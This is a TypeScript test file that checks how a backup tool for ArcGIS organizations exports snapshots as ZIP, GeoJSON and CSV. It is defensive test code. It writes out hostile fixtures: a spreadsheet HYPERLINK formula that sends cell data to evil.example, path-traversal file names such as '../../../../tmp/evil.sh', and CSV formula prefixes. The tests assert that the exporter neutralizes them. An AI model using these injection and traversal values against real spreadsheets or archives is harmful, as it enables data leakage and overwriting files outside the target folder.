/**
 * Exports from real snapshots: the emulated demo organization (plus a service with hostile names and tricky polygons)
 * is backed up with the engine, then items are exported as ZIPs and layers as GeoJSON, and both are compared with what
 * the emulator serves; the run log is exported as CSV and parsed back.
 */
import { mkdir, readdir, readFile, writeFile } from 'node:fs/promises';
import { join, resolve } from 'node:path';
import { PassThrough, Writable } from 'node:stream';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import yauzl from 'yauzl';
import type * as Emulator from '@orgkeeper/arcgis-emulator';
import { runBackup } from '../src/backup/backup.engine.js';
import type { BackupIdentity, BackupResult } from '../src/backup/backup.types.js';
import { exportItemZip, layerToGeoJSON, snapshotLogCsv, SNAPSHOT_LOG_COLUMNS } from '../src/backup/export/index.js';
import { type ItemEntry, type Store, isSafeRelativePath, openStore } from '../src/store/index.js';
import { EMULATOR_SRC, startTestEmulator, tempFolder, type EmulatorHandle } from './support/emulator-harness.js';
import type { ArcGISSession } from '../src/arcgis/arcgis-session.js';
import { QUICK_RETRY, sessionFor } from './support/emulator-session.js';

type ItemRecord = EmulatorHandle['context']['state']['items'] extends Map<string, infer I> ? I : never;

/** Every entry of a ZIP with its bytes, read with yauzl (an independent reader that also rejects unsafe names). */
async function readZip(path: string): Promise<Map<string, Buffer>> {
  const zip = await new Promise<yauzl.ZipFile>((done, fail) => yauzl.open(path, { lazyEntries: true, strictFileNames: true }, (e, z) => (e ? fail(e) : done(z))));
  const files = new Map<string, Buffer>();
  await new Promise<void>((done, fail) => {
    zip.on('entry', (entry: yauzl.Entry) => {
      zip.openReadStream(entry, (error, stream) => {
        if (error) return fail(error);
        const parts: Buffer[] = [];
        stream.on('data', (c: Buffer) => parts.push(c));
        stream.on('error', fail);
        stream.on('end', () => {
          files.set(entry.fileName, Buffer.concat(parts));
          zip.readEntry();
        });
      });
    });
    zip.on('end', done);
    zip.on('error', fail);
    zip.readEntry();
  });
  return files;
}

/** Deep equality with a relative tolerance on numbers (projections differ in the last bits between implementations). */
function expectClose(actual: unknown, expected: unknown, at = '$'): void {
  if (typeof expected === 'number' && typeof actual === 'number') {
    if (Math.abs(actual - expected) > 1e-9 * Math.max(1, Math.abs(expected))) throw new Error(`${at}: ${actual} != ${expected}`);
    return;
  }
  if (Array.isArray(expected)) {
    if (!Array.isArray(actual) || actual.length !== expected.length) throw new Error(`${at}: ${JSON.stringify(actual)?.slice(0, 200)} != ${JSON.stringify(expected).slice(0, 200)}`);
    expected.forEach((e, i) => expectClose(actual[i], e, `${at}[${i}]`));
    return;
  }
  if (expected !== null && typeof expected === 'object') {
    if (actual === null || typeof actual !== 'object') throw new Error(`${at}: ${JSON.stringify(actual)} is not an object`);
    const a = actual as Record<string, unknown>;
    const e = expected as Record<string, unknown>;
    expect(Object.keys(a).sort(), at).toEqual(Object.keys(e).sort());
    for (const key of Object.keys(e)) expectClose(a[key], e[key], `${at}.${key}`);
    return;
  }
  expect(actual, at).toEqual(expected);
}

/** The emulator's own GeoJSON of a layer (`query?f=geojson`), paged. */
async function emulatorGeoJSON(session: ArcGISSession, layerUrl: string, oidField: string): Promise<{ type: string; features: unknown[] }> {
  const features: unknown[] = [];
  const token = await session.auth!.getToken(layerUrl);
  for (let offset = 0; ; ) {
    const params = new URLSearchParams({ f: 'geojson', where: '1=1', outFields: '*', returnGeometry: 'true', orderByFields: oidField, resultOffset: String(offset), resultRecordCount: '1000', token });
    const response = await fetch(`${layerUrl}/query?${params}`);
    const page = (await response.json()) as { features: unknown[]; properties?: { exceededTransferLimit?: boolean } };
    features.push(...page.features);
    offset += page.features.length;
    if (!page.properties?.exceededTransferLimit || page.features.length === 0) break;
  }
  return { type: 'FeatureCollection', features };
}

/** A collecting Writable. */
function collector(): { stream: Writable; text: () => string } {
  const parts: Buffer[] = [];
  const stream = new Writable({ write(chunk: Buffer, _enc, done) { parts.push(chunk); done(); } });
  return { stream, text: () => Buffer.concat(parts).toString('utf8') };
}

/** RFC 4180 parser for the test (quoted fields, doubled quotes, CRLF inside quotes). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += ch;
  }
  if (cell !== '' || row.length > 0) throw new Error('CSV does not end with CRLF');
  return rows;
}

const HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"click"), with "quotes"\r\nand a new line';
const HOSTILE_LAYER = '..\\..\\CON';
// Lon/lat rings (ArcGIS: outer rings clockwise, holes counter-clockwise).
const OUTER_A = [[-117.2, 34.0], [-117.2, 34.1], [-117.1, 34.1], [-117.1, 34.0], [-117.2, 34.0]];
const HOLE_A = [[-117.18, 34.02], [-117.12, 34.02], [-117.12, 34.08], [-117.18, 34.08], [-117.18, 34.02]];
const OUTER_B = [[-117.0, 34.0], [-117.0, 34.05], [-116.95, 34.05], [-116.95, 34.0], [-117.0, 34.0]];

describe('exports from backup snapshots', () => {
  let emu: EmulatorHandle;
  let folder: { path: string; remove(): Promise<void> };
  let identity: BackupIdentity;
  let session: ArcGISSession;
  let backup: BackupResult;
  let store: Store;
  let entries: Map<string, ItemEntry>;
  let hostileItemId: string;
  const orgItems = (): ItemRecord[] => [...emu.context.state.items.values()].filter((item) => item.json.orgId === emu.orgId);

  beforeAll(async () => {
    emu = await startTestEmulator({ kind: 'online' });
    const emulator = (await import(/* @vite-ignore */ EMULATOR_SRC)) as typeof Emulator;
    folder = await tempFolder('orgkeeper-export-');
    session = sessionFor(emu, { retry: QUICK_RETRY });
    const { item } = emulator.createHostedService(emu.context, {
      name: 'Export_Hostile',
      title: HOSTILE_TITLE,
      owner: emu.admin.username,
      featuresSpatialReference: { wkid: 4326 },
      layers: [
        {
          name: HOSTILE_LAYER,
          geometryType: 'esriGeometryPolygon',
          fields: [{ name: 'label', type: 'esriFieldTypeString', length: 50 }, { name: 'surveyed', type: 'esriFieldTypeDate' }],
          features: [
            { attributes: { label: 'with hole', surveyed: Date.UTC(2024, 4, 1) }, geometry: { rings: [OUTER_A, HOLE_A] } },
            { attributes: { label: 'two parts', surveyed: null }, geometry: { rings: [OUTER_A, HOLE_A, OUTER_B] } }
          ]
        },
        {
          name: 'Hydrants/../../etc',
          geometryType: 'esriGeometryPoint',
          hasAttachments: true,
          fields: [{ name: 'status', type: 'esriFieldTypeString', length: 20 }],
          features: [{ attributes: { status: '-1+1' }, geometry: { x: -117.19, y: 34.05 } }, { attributes: { status: 'ok' }, geometry: { x: 2.35, y: 48.85 } }],
          attachments: {
            1: [
              { name: '../../../../tmp/evil.sh', contentType: 'text/plain', data: 'echo pwned' },
              { name: 'CON.txt', contentType: 'text/plain', data: 'device' },
              { name: 'photo.jpg', contentType: 'image/jpeg', data: Buffer.from([0xff, 0xd8, 0xff, 1, 2, 3]) }
            ]
          }
        }
      ],
      tables: [{ name: 'Inspections', fields: [{ name: 'note', type: 'esriFieldTypeString', length: 100 }], features: [{ attributes: { note: 'first' } }, { attributes: { note: '@SUM(1)' } }] }]
    });
    hostileItemId = item.json.id;
    // Resource paths that differ only in case (ArcGIS keeps both; Windows and macOS would merge them on extraction).
    for (const [path, text] of [['img/Logo.png', 'upper'], ['img/logo.png', 'lower']] as const) {
      const bytes = Buffer.from(text);
      item.resources.set(path, { path, created: Date.now(), size: bytes.length, access: 'inherit', blob: { contentType: 'image/png', size: bytes.length, read: () => bytes } });
    }
    identity = { id: 'identity-1', name: 'Springfield', fileLocation: `${folder.path}/store`, orgId: emu.orgId, portalUrl: emu.portalUrl, portalName: 'Springfield' };
    backup = await runBackup({ identity, session, name: 'For export', includePrincipals: false });
    store = await openStore(identity.fileLocation, { expectOrgId: emu.orgId });
    entries = new Map();
    for await (const entry of store.readList(await store.readSnapshot(backup.snapshotId), 'items')) entries.set(entry.id, entry);
  }, 120_000);

  afterAll(async () => {
    await emu?.close();
    await folder?.remove();
  });

  it('backs up the organization it exports from', () => {
    expect(backup.items.filter((i) => i.status !== 'ok')).toEqual([]);
    expect(entries.get(hostileItemId)?.service?.layers).toHaveLength(3);
  });

  it('exports every item as a ZIP whose files equal what the emulator serves', async () => {
    let files = 0;
    let resources = 0;
    for (const record of orgItems()) {
      const id = record.json.id;
      const at = `${id} (${record.json.type})`;
      const entry = entries.get(id)!;
      const out = join(folder.path, `${id}.zip`);
      const result = await exportItemZip(store, backup.snapshotId, id, out);
      const zip = await readZip(out);
      expect([...zip.keys()], at).toEqual(result.entries);
      expect(result.entries[0]).toBe('README.txt');
      for (const name of zip.keys()) expect(isSafeRelativePath(name), name).toBe(true);
      const readme = zip.get('README.txt')!.toString('utf8');
      expect(readme).toContain(backup.snapshotId);
      expect(readme).toContain(id);

      expect(JSON.parse(zip.get('item.json')!.toString('utf8')), at).toMatchObject({ id, title: record.json.title, owner: record.json.owner });
      if (record.data?.kind === 'json') expect(zip.get('data.json')!.toString('utf8'), at).toBe(record.data.text);
      else if (record.data?.kind === 'file') {
        files++;
        expect(zip.get(`data/${record.data.filename}`)?.equals(record.data.blob.read()), at).toBe(true);
      }
      // (The hostile item's case-colliding resources are checked in their own test.)
      for (const [path, resource] of id === hostileItemId ? [] : record.resources) {
        resources++;
        expect(zip.get(`resources/${path}`)?.equals(resource.blob.read()), `${at} ${path}`).toBe(true);
      }
      if (entry.thumbnail) expect(zip.get(`thumbnail/${entry.thumbnail.filename}`)?.equals(record.thumbnailBlob!.read()), at).toBe(true);
      if (record.metadataXml) expect(zip.get('metadata/metadata.xml')?.equals(record.metadataXml.read()), at).toBe(true);
      expect(JSON.parse(zip.get('sharing.json')!.toString('utf8')), at).toEqual(entry.sharing);
      if (entry.related) expect(JSON.parse(zip.get('related.json')!.toString('utf8')), at).toEqual(entry.related);
      expect(result.attachments).toBe([...zip.keys()].filter((k) => k.startsWith('attachments/')).length);
    }
    expect(files).toBeGreaterThan(0);
    expect(resources).toBeGreaterThan(0);
  }, 120_000);

  it('exports hosted services with definitions, GeoJSON equal to the emulator f=geojson, and every attachment', async () => {
    const services = [...emu.context.state.services.values()];
    expect(services.length).toBeGreaterThanOrEqual(6);
    let attachments = 0;
    let layersChecked = 0;
    for (const service of services) {
      const entry = entries.get(service.itemId)!;
      const out = join(folder.path, `service-${service.itemId}.zip`);
      const result = await exportItemZip(store, backup.snapshotId, service.itemId, out);
      const zip = await readZip(out);
      expectClose(JSON.parse(zip.get('service.json')!.toString('utf8')), await session.request(entry.service!.url));
      for (const layer of service.layers.values()) {
        const layerUrl = `${entry.service!.url}/${layer.id}`;
        const base = result.entries.find((e) => e.startsWith(`layers/${layer.id}-`) && e.endsWith('.json'))!.replace(/\.json$/, '');
        expectClose(JSON.parse(zip.get(`${base}.json`)!.toString('utf8')), await session.request(layerUrl));
        if (layer.view) {
          // A view is exported as its definitions and its source; its rows are exported with the source.
          expect(zip.has(`${base}.geojson`)).toBe(false);
          const view = JSON.parse(zip.get('view.json')!.toString('utf8')) as { layers: { id: number; sourceLayerId: number }[] };
          expect(view.layers.find((l) => l.id === layer.id)?.sourceLayerId).toBe(layer.view.sourceLayerId);
          continue;
        }
        const geojson = JSON.parse(zip.get(`${base}.geojson`)!.toString('utf8')) as { features: { id: number }[] };
        expectClose(geojson, await emulatorGeoJSON(session, layerUrl, layer.objectIdField), `${service.name}/${layer.id}`);
        expect(geojson.features).toHaveLength(layer.store.count());
        layersChecked++;
        for (const f of layer.store.scan()) {
          for (const a of layer.attachments.list(f.oid)) {
            const name = [...zip.keys()].find((k) => k.startsWith(`attachments/${layer.id}/${f.oid}/${a.id}-`));
            expect(name, `${service.name} ${layer.id}/${f.oid}/${a.id}`).toBeDefined();
            expect(zip.get(name!)!.equals(a.blob.read())).toBe(true);
            attachments++;
          }
        }
      }
    }
    expect(layersChecked).toBeGreaterThan(6);
    expect(attachments).toBeGreaterThan(3);
  }, 120_000);

  it('keeps hostile names inside the archive: extracting it writes nothing outside the target folder', async () => {
    const out = join(folder.path, 'hostile.zip');
    const result = await exportItemZip(store, backup.snapshotId, hostileItemId, out);
    for (const name of result.entries) {
      expect(isSafeRelativePath(name), name).toBe(true);
      expect(name).not.toMatch(/(^|\/)\.\.(\/|$)|\\|^\//);
    }
    expect(result.entries).toContain('layers/0-.._.._CON.geojson');
    expect(result.entries).toContain('layers/1-Hydrants_.._.._etc.json');
    const attachmentNames = result.entries.filter((e) => e.startsWith('attachments/1/1/'));
    expect(attachmentNames).toHaveLength(3);
    expect(attachmentNames.every((n) => n.split('/').length === 4)).toBe(true);
    const zip = await readZip(out);
    const resources = [...zip.keys()].filter((k) => k.startsWith('resources/')).sort();
    expect(resources).toEqual(['resources/img/Logo.png', 'resources/img/logo (2).png']);
    expect(resources.map((r) => zip.get(r)!.toString('utf8')).sort()).toEqual(['lower', 'upper']);
    // The title (a spreadsheet formula with a line break) is one plain line in the README.
    const readme = zip.get('README.txt')!.toString('utf8');
    expect(readme).toContain('Title:     =HYPERLINK("http://evil.example/?"&A1,"click"), with "quotes"  and a new line');

    // Extracting it anywhere keeps every file inside the target folder (what an unzip tool computes from each name).
    const target = join(folder.path, 'extract', 'here');
    for (const name of result.entries) expect(resolve(target, name).startsWith(`${target}/`), name).toBe(true);
  });

  it('converts polygons with holes, projects to WGS84 and keeps tables with null geometry', async () => {
    const { stream, text } = collector();
    const result = await layerToGeoJSON(store, backup.snapshotId, hostileItemId, 0, stream);
    expect(result).toEqual({ layerId: 0, features: 2, crs: 'EPSG:4326' });
    const collection = JSON.parse(text()) as { type: string; features: { id: number; geometry: { type: string; coordinates: number[][][] | number[][][][] }; properties: Record<string, unknown> }[] };
    expect(collection.type).toBe('FeatureCollection');
    const [withHole, twoParts] = collection.features;
    // RFC 7946: exterior counter-clockwise, holes clockwise: ArcGIS's rings reversed.
    expect(withHole!.geometry.type).toBe('Polygon');
    expectClose(withHole!.geometry.coordinates, [[...OUTER_A].reverse(), [...HOLE_A].reverse()]);
    expect(withHole!.properties).toMatchObject({ label: 'with hole', surveyed: Date.UTC(2024, 4, 1) });
    expect(twoParts!.geometry.type).toBe('MultiPolygon');
    expectClose(twoParts!.geometry.coordinates, [[[...OUTER_A].reverse(), [...HOLE_A].reverse()], [[...OUTER_B].reverse()]]);
    expect(twoParts!.id).toBe(2);

    const table = collector();
    expect((await layerToGeoJSON(store, backup.snapshotId, hostileItemId, 2, table.stream)).features).toBe(2);
    const rows = (JSON.parse(table.text()) as { features: { geometry: unknown; properties: { note: string } }[] }).features;
    expect(rows.map((r) => [r.geometry, r.properties.note])).toEqual([[null, 'first'], [null, '@SUM(1)']]);
  });

  it('says clearly what is missing, and leaves no partial file when the export fails', async () => {
    const { stream } = collector();
    await expect(layerToGeoJSON(store, backup.snapshotId, hostileItemId, 7, stream)).rejects.toThrow(/has no layer 7; its layers and tables are 0, 1, 2/);
    await expect(exportItemZip(store, backup.snapshotId, 'nosuchitem0000000000000000000000', join(folder.path, 'x.zip'))).rejects.toMatchObject({ code: 'not_found' });
    await expect(exportItemZip(store, '20200101T000000000Z-00000000', hostileItemId, join(folder.path, 'x.zip'))).rejects.toMatchObject({ code: 'snapshot_not_found' });

    // Corrupt the first feature chunk of the polygon layer: the export fails and leaves neither the ZIP nor a temporary.
    const chunk = entries.get(hostileItemId)!.service!.layers[0]!.chunks[0]!;
    const blobPath = join(identity.fileLocation, 'blobs', chunk.hash.slice(0, 2), chunk.hash);
    const original = await readFile(blobPath);
    const { gzipSync } = await import('node:zlib');
    await writeFile(blobPath, gzipSync(Buffer.from('{"format":"orgkeeper-features","features":[]}')));
    try {
      const target = join(folder.path, 'failed', 'corrupt.zip');
      await mkdir(join(folder.path, 'failed'));
      await expect(exportItemZip(store, backup.snapshotId, hostileItemId, target)).rejects.toMatchObject({ code: 'blob_corrupt' });
      expect(await readdir(join(folder.path, 'failed'))).toEqual([]);
    } finally {
      await writeFile(blobPath, original);
    }
  });

  it('writes the run log as RFC 4180 CSV, one row per item, safe to open in a spreadsheet', async () => {
    const { stream, text } = collector();
    const { rows } = await snapshotLogCsv(store, backup.snapshotId, stream);
    const parsed = parseCsv(text());
    expect(parsed[0]).toEqual([...SNAPSHOT_LOG_COLUMNS]);
    expect(rows).toBe(entries.size);
    expect(parsed).toHaveLength(entries.size + 1);
    const byId = new Map(parsed.slice(1).map((r) => [r[0]!, Object.fromEntries(SNAPSHOT_LOG_COLUMNS.map((c, i) => [c, r[i]!]))]));
    // A first run reads every item: each row has its figures.
    expect([...entries.values()].every((e) => e.stats !== undefined)).toBe(true);
    for (const [id, entry] of entries) {
      const row = byId.get(id)!;
      expect(row.status).toBe('ok');
      expect(row.owner).toBe(entry.owner);
      expect(row.modified).toBe(new Date(entry.modified).toISOString());
      expect(row.parts?.split(';')[0]).toBe('item');
      if (entry.stats) expect([row['bytes read'], row['new bytes stored'], row['duration (ms)']].map(Number)).toEqual([entry.stats.bytesRead, entry.stats.newBytesStored, entry.stats.durationMs]);
    }
    // The formula title comes back as text, prefixed with a quote; its quotes and line break survive.
    expect(byId.get(hostileItemId)!.title).toBe(`'${HOSTILE_TITLE}`);
    expect(byId.get(hostileItemId)!.parts).toMatch(/;service;layers\(3\);features\(6\);attachments\(3\)$/);
    for (const row of parsed.slice(1)) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

    const bom = collector();
    await snapshotLogCsv(store, backup.snapshotId, bom.stream, { bom: true });
    expect(bom.text().startsWith('\uFEFFid,title,')).toBe(true);
  });

  it('streams into a slow reader without buffering the whole layer', async () => {
    const service = [...emu.context.state.services.values()].find((s) => s.itemId !== hostileItemId && [...s.layers.values()].some((l) => l.store.count() > 10))!;
    const layer = [...service.layers.values()].find((l) => l.store.count() > 10)!;
    // A PassThrough with a tiny buffer that is read slowly: writes must wait for drain, and all content arrives in order.
    const slow = new PassThrough({ highWaterMark: 64 });
    const parts: Buffer[] = [];
    const reading = (async () => {
      for await (const chunk of slow) {
        parts.push(chunk as Buffer);
        await new Promise((r) => setImmediate(r));
      }
    })();
    await layerToGeoJSON(store, backup.snapshotId, service.itemId, layer.id, slow);
    slow.end();
    await reading;
    const collection = JSON.parse(Buffer.concat(parts).toString('utf8')) as { features: unknown[] };
    expect(collection.features).toHaveLength(layer.store.count());
  });
});
